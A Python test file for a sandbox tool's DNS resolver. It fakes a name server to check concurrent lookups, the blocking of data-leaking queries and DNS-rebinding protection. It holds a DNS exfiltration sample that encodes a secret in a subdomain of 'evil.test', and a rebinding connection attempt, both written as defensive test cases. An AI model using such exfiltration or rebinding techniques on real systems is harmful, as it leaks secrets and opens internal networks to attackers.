"""The resolver against the host's name server, which the test stands in for: many callers ask at once, names that no rule could
allow are never asked for outside, and a name that comes to mean an internal address leads nowhere.

usage: names.py --certgate build/bin/certgate
"""

import argparse
import os
import pathlib
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

from harness import SKIP, Checks, Sink, hosts

POLICY = """
name = "names"
extends = ["default"]
[[rule]]
id = "sites"
why = "names that the host's server knows"
allow = ["connect"]
to = ["site.test:80", "*.many.test:80", "rebind.test:{port}"]
origin = "tool"
accept = ["@trusted"]
"""

# Every answer of the host's server takes this long: all that is asked at once is in flight at once.
SLOW = 0.3
CALLERS = 60
MANY = 40

ASK = f"""
import collections, socket, threading
said = collections.Counter()
def ask(name):
    try: socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM); said["found"] += 1
    except OSError as e: said[e.strerror] += 1
names = ["site.test"] * {CALLERS} + [f"n{{i}}.many.test" for i in range({MANY})]
threads = [threading.Thread(target=ask, args=(n,)) for n in names]
[t.start() for t in threads]; [t.join() for t in threads]
print(dict(said))
"""

LEAK = """
import socket
for name in ("aGlnaGx5IHNlY3JldA.evil.test", "aGlnaGx5IHNlY3JldA.site.test", "site.test.evil.test"):
    try: print(socket.getaddrinfo(name, 80))
    except OSError as e: print(e.strerror)
"""

CONNECT = """
import errno, socket, sys
s = socket.socket(); s.settimeout(10)
try: s.connect(("rebind.test", int(sys.argv[1]))); s.sendall(b"inside"); print("connected")
except OSError as e: print(errno.errorcode[e.errno])
"""


class NameServer:
    """Knows every name below .test, and remembers what it was asked."""

    def __init__(self):
        self.asked = []
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 53))
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            query, peer = self.socket.recvfrom(2000)
            threading.Thread(target=self._answer, args=(query, peer), daemon=True).start()

    def _answer(self, query, peer):
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1:at + 1 + query[at]].decode())
            at += 1 + query[at]
        name = ".".join(labels)
        question = query[12:at + 5]
        kind = struct.unpack(">H", question[-4:-2])[0]
        self.asked.append((name, kind))
        time.sleep(SLOW)
        address = "127.0.0.1" if name == "rebind.test" else "203.0.113.7"
        record = b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c\0\x04" + socket.inet_aton(address) if kind == 1 else b""
        self.socket.sendto(query[:2] + struct.pack(">HHHHH", 0x8180, 1, int(kind == 1), 0, 0) + question + record, peer)

    def take(self):
        asked, self.asked = self.asked, []
        return asked


def scenario(checks, host, server):
    workspace = host.directory("workspace")
    sink = Sink()
    policy = host.policies / "names.toml"
    policy.write_text(POLICY.format(port=sink.port))
    state = host.state("state")

    def run(*command):
        server.take()
        return host.call("run", "--policy", policy, "--workspace", workspace, "--state", state, "--", "python3", "-c", *command)

    out = run(ASK)
    asked = server.take()
    checks.check(out.stdout.strip() == f"{{'found': {CALLERS + MANY}}}", f"{CALLERS + MANY} callers at once all get their answers",
                 out.stdout + out.stderr)
    checks.check(len(asked) == len(set(asked)) and len({n for n, _ in asked}) == 1 + MANY,
                 "the host's server is asked once for each name", asked)

    out = run(LEAK)
    checks.check(out.stdout.splitlines() == ["Name or service not known"] * 3 and not server.take(),
                 "a name that no rule could allow is not asked for outside", out.stdout + out.stderr)
    bare = subprocess.run(["python3", "-c", LEAK], capture_output=True, text=True, check=False)
    checks.check(len(server.take()) > 0, "bare, it is: the name carries the secret", bare.stdout + bare.stderr)

    out = run(CONNECT, str(sink.port))
    checks.check(out.stdout.strip() == "EHOSTUNREACH" and not sink.received,
                 "a name that has come to mean an internal address leads nowhere", out.stdout + out.stderr)
    bare = subprocess.run(["python3", "-c", CONNECT, str(sink.port)], capture_output=True, text=True, check=False)
    checks.check(bare.stdout.strip() == "connected" and sink.wait_for(b"inside"), "bare, it leads inside", bare.stdout + bare.stderr)
    sink.close()
    verify = host.call("audit", "verify", "--state", state)
    checks.check(verify.returncode == 0, "the log verifies", verify.stdout)


def inside(certgate):
    """In network and mount namespaces of the test's own, where the host's name server is ours."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    checks = Checks("names")
    server = NameServer()
    with tempfile.NamedTemporaryFile("w", prefix="certgate-resolv-") as resolv:
        resolv.write("nameserver 127.0.0.1\noptions attempts:1 timeout:5\n")
        resolv.flush()
        os.chmod(resolv.name, 0o644)
        subprocess.run(["mount", "--bind", resolv.name, os.path.realpath("/etc/resolv.conf")], check=True)
        for host in hosts(certgate):
            print(f"== {host.name}")
            try:
                scenario(checks, host, server)
            finally:
                host.remove()
    return checks.finish()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--certgate", type=pathlib.Path, required=True)
    parser.add_argument("--inside", action="store_true", help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    if arguments.inside:
        return inside(arguments.certgate.resolve())
    if os.geteuid() != 0:
        print("standing in for the host's name server takes root")
        return SKIP
    return subprocess.run(["unshare", "--net", "--mount", "--propagation", "private", sys.executable, __file__, "--inside",
                           "--certgate", arguments.certgate], check=False).returncode


if __name__ == "__main__":
    sys.exit(main())
